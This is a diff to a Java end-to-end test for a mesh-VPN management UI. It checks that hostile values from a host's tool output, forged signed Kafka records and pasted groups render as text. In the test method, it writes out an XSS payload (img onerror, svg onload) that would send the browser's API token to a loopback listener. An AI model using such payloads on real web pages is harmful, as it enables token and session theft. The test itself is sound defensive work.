@@ -2,31 +2,52 @@ package dev.wgmesh.e2e.ui;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.sun.net.httpserver.HttpServer;
+import dev.wgmesh.common.events.EventJson;
+import dev.wgmesh.common.events.Topics;
+import dev.wgmesh.common.testing.TestTrust;
+import dev.wgmesh.common.trust.Signer;
+import dev.wgmesh.e2e.Api;
 import dev.wgmesh.e2e.KafkaBroker;
 import dev.wgmesh.e2e.Wgmesh;
 import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Duration;
+import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.TimeUnit;
+import java.util.function.Consumer;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
+import org.apache.kafka.clients.producer.KafkaProducer;
+import org.apache.kafka.clients.producer.ProducerRecord;
+import org.apache.kafka.common.serialization.ByteArraySerializer;
+import org.apache.kafka.common.serialization.StringSerializer;
 import org.junit.jupiter.api.Assertions;
 import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.node.ObjectNode;
 
 /**
  * The page in a real browser against the running system (real broker, the four services, file target):
  * {@code ui-tests/ui-flow.mjs} drives Debian's chromium through playwright-core. It creates a group
  * through the form (while the page's first group list is held back, whose late arrival must not reset
  * the form), sees it converge, presses "Rotate WG keys for this host", follows the whole chain in the
- * live feed, and keeps screenshots in {@code target/ui/}. Skips without chromium, node or
- * {@code ui-tests/node_modules}; fails instead when WGMESH_REQUIRE_ROOT_TESTS=1 (CI).
+ * live feed, and keeps screenshots in {@code target/ui/}. {@code ui-tests/ui-attack.mjs} puts hostile
+ * values in front of the same page and shows they stay text. The browser holds the API token, as an
+ * operator's does. Skips without chromium, node or {@code ui-tests/node_modules}; fails instead when
+ * WGMESH_REQUIRE_ROOT_TESTS=1 (CI).
  */
 class UiEndToEndTest {
 
@@ -34,6 +55,13 @@ class UiEndToEndTest {
     private static final Path UI_TESTS = Path.of("..", "ui-tests").toAbsolutePath().normalize();
     private static final Path SCREENSHOTS = Path.of("target", "ui").toAbsolutePath();
     private static final Duration BROWSER_TIMEOUT = Duration.ofMinutes(6);
+    private static final String ATTACKED = "ui-attack";
+    private static final String ATTACKED_GROUP = """
+            {"topology": "hoster", "hosts": [
+              {"name": "hoster-node-01", "endpoint": "192.0.2.11:51821", "internalNetworks": ["10.10.101.0/24"],
+               "tunnelSegment": "198.19.1.10/24", "interfaceSuffix": "node-01"},
+              {"name": "hoster-node-02", "endpoint": "192.0.2.12:51821", "internalNetworks": ["10.10.102.0/24"],
+               "tunnelSegment": "198.19.2.10/24", "interfaceSuffix": "node-02"}]}""";
 
     @TempDir
     Path workDir;
@@ -43,8 +71,7 @@ class UiEndToEndTest {
         assumeBrowserAvailable();
         try (KafkaBroker broker = KafkaBroker.start();
              Wgmesh wgmesh = new Wgmesh(broker.bootstrapServers(), workDir, 2)) {
-            String base = wgmesh.api().base();
-            List<String> output = runBrowser(base);
+            List<String> output = runBrowser("ui-flow.mjs", wgmesh.api(), List.of(), line -> { });
             String all = String.join("\n", output);
 
             assertThat(all).as("the browser run's output").contains("UI-FLOW PASSED")
@@ -66,12 +93,95 @@ class UiEndToEndTest {
         }
     }
 
-    private static List<String> runBrowser(String base) throws IOException, InterruptedException {
+    /**
+     * Values an attacker controls, each on a path that reaches the page today: a host's apply tool
+     * prints markup on stderr (the FAILED reason in the host table and detail), a Kafka writer puts a
+     * forged change and report with markup in the replica, the revision and the reason on the topics
+     * (the live feed, the followed chain, the rollout banner, the dead letters' reasons), and an
+     * operator pastes a group whose host name is markup (the API's problems in the editor). The payload
+     * would set a global and send the browser's API token to a listener here; nothing may arrive, and
+     * the page must hold no element or handler the payload made.
+     */
+    @Test
+    void hostileValuesFromHostsRecordsAndPastedGroupsStayTextAndRunNothing() throws Exception {
+        assumeBrowserAvailable();
+        List<String> stolen = new CopyOnWriteArrayList<>();
+        HttpServer listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        listener.createContext("/", exchange -> {
+            stolen.add(exchange.getRequestURI().toString());
+            exchange.sendResponseHeaders(204, -1);
+            exchange.close();
+        });
+        listener.start();
+        String steal = "http://127.0.0.1:" + listener.getAddress().getPort() + "/stolen?t=";
+        String payload = "\"'><img src=x onerror=\"window.__pwned=1;new Image().src='" + steal
+                + "'+sessionStorage.getItem('wgmesh-api-token')\"><svg onload=\"window.__pwned=2\"></svg>";
+        Path apply = workDir.resolve("hostile-apply.sh");
+        Files.writeString(apply, "#!/bin/sh\ncat >&2 <<'EOF'\nwg setconf failed on " + payload + "\nEOF\nexit 1\n");
+        Files.setPosixFilePermissions(apply, PosixFilePermissions.fromString("rwx------"));
+        String forged = UUID.randomUUID().toString();
+        try (KafkaBroker broker = KafkaBroker.start();
+             Wgmesh wgmesh = new Wgmesh(broker.bootstrapServers(), workDir, 1, Map.of("wgmesh.target", "command",
+                     "wgmesh.command", apply.toString(), "wgmesh.command-timeout", "30s"))) {
+            assertThat(wgmesh.api().put(ATTACKED, ATTACKED_GROUP).status()).isEqualTo(201);
+            List<String> output = runBrowser("ui-attack.mjs", wgmesh.api(), List.of(ATTACKED, forged, payload), line -> {
+                if (line.equals("FORGE")) {
+                    forge(broker.bootstrapServers(), forged, payload);
+                }
+            });
+            String all = String.join("\n", output);
+
+            assertThat(all).as("the browser run's output").contains("UI-ATTACK PASSED")
+                    .contains("OK the page carries Content-Security-Policy: default-src 'self'")
+                    .contains("OK the FAILED reason from the host's tool shows as text in the host table")
+                    .contains("OK the forged replica and revision show as text in the chain and the rollout banner")
+                    .contains("OK the FAILED reason shows as text in the host detail")
+                    .contains("OK the API's problems about a pasted host name show as text in the editor")
+                    .contains("OK no injected element, no handler ran, no CSP violation");
+            assertThat(stolen).as("requests the payload made to the attacker's listener").isEmpty();
+        } finally {
+            listener.stop(0);
+        }
+    }
+
+    /**
+     * As a Kafka writer holding config-service's and a deployer's signing keys would (a compromised service:
+     * unsigned records never reach the feed): a change and a report of the attacked group with markup where
+     * the page shows the replica, the revision, the rotated host and the reason, under one correlationId of
+     * their own. The services refuse both as events (their dead letters quote them); the feed shows them.
+     */
+    private static void forge(String bootstrapServers, String correlation, String payload) {
+        ObjectNode changed = EventJson.mapper().createObjectNode().put("eventId", UUID.randomUUID().toString())
+                .put("group", ATTACKED).put("revision", payload).put("occurredAt", Instant.now().toString())
+                .put("correlationId", correlation).put("cause", "rotate-host").put("rotatedHost", payload);
+        ObjectNode reported = EventJson.mapper().createObjectNode().put("eventId", UUID.randomUUID().toString())
+                .put("group", ATTACKED).put("revision", payload).put("occurredAt", Instant.now().toString())
+                .put("correlationId", correlation).put("host", "hoster-node-02").put("outcome", "FAILED")
+                .put("reason", payload).put("replica", payload).put("durationMillis", 1);
+        try (var producer = new KafkaProducer<>(Map.<String, Object>of("bootstrap.servers", bootstrapServers),
+                new StringSerializer(), new ByteArraySerializer())) {
+            producer.send(TestTrust.signed(Signer.CONFIG, Topics.HOST_GROUP_CHANGED, "forged",
+                    changed.toString().getBytes(StandardCharsets.UTF_8), 1)).get();
+            producer.send(TestTrust.signed(Signer.DEPLOYER, Topics.DEPLOYMENT_REPORTED, ATTACKED + "/hoster-node-02",
+                    reported.toString().getBytes(StandardCharsets.UTF_8), 1)).get();
+        } catch (Exception e) {
+            throw new AssertionError("could not write the forged records", e);
+        }
+    }
+
+    /**
+     * Runs {@code ui-tests/<script> <base> <screenshots> <args...>} with the API token in its environment
+     * (never on its command line); {@code onLine} sees each line of its output as it comes.
+     */
+    private static List<String> runBrowser(String script, Api api, List<String> args, Consumer<String> onLine)
+            throws IOException, InterruptedException {
         Files.createDirectories(SCREENSHOTS);
-        Process process = new ProcessBuilder("node", UI_TESTS.resolve("ui-flow.mjs").toString(), base, SCREENSHOTS.toString())
-                .directory(UI_TESTS.toFile())
-                .redirectErrorStream(true)
-                .start();
+        List<String> command = new ArrayList<>(List.of("node", UI_TESTS.resolve(script).toString(), api.base(),
+                SCREENSHOTS.toString()));
+        command.addAll(args);
+        ProcessBuilder builder = new ProcessBuilder(command).directory(UI_TESTS.toFile()).redirectErrorStream(true);
+        builder.environment().put("WGMESH_API_TOKEN", api.token());
+        Process process = builder.start();
         List<String> lines = new ArrayList<>();
         Thread reader = new Thread(() -> {
             try (var in = process.inputReader(StandardCharsets.UTF_8)) {
@@ -81,6 +191,7 @@ class UiEndToEndTest {
                     synchronized (lines) {
                         lines.add(line);
                     }
+                    onLine.accept(line);
                 }
             } catch (IOException e) {
                 // the process ended
